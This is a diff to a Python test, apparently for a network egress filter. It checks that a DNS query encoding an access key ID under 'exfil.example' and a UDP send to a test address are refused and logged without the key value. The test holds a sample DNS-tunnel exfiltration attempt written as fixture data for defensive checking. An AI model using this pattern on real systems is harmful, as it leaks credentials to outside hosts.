@@ -112,7 +112,8 @@ def test_each_refusal_is_an_audit_record_with_no_value_in_it():
         asyncio.run(datagrams.dns_request(dns_flow(f"{AKID.lower()}.exfil.example")))
         asyncio.run(datagrams.dns_request(dns_flow("api.openai.com")))  # goes on: no decision to record
     udp_record, dns_record = recorded.records
-    assert udp_record["event"] == "udp_refused" and udp_record["destination"] == {"host": "198.18.226.5", "port": 9999}
+    assert udp_record["event"] == "udp_refused" and (udp_record["host"], udp_record["port"]) == ("198.18.226.5", 9999)
+    assert (udp_record["decision"], dns_record["decision"]) == ("deny", "block")
     assert dns_record["event"] == "dns_refused" and dns_record["questions"][0].endswith(".exfil.example")
     written = repr(recorded.records)
     assert AKID not in written and AKID.lower() not in written
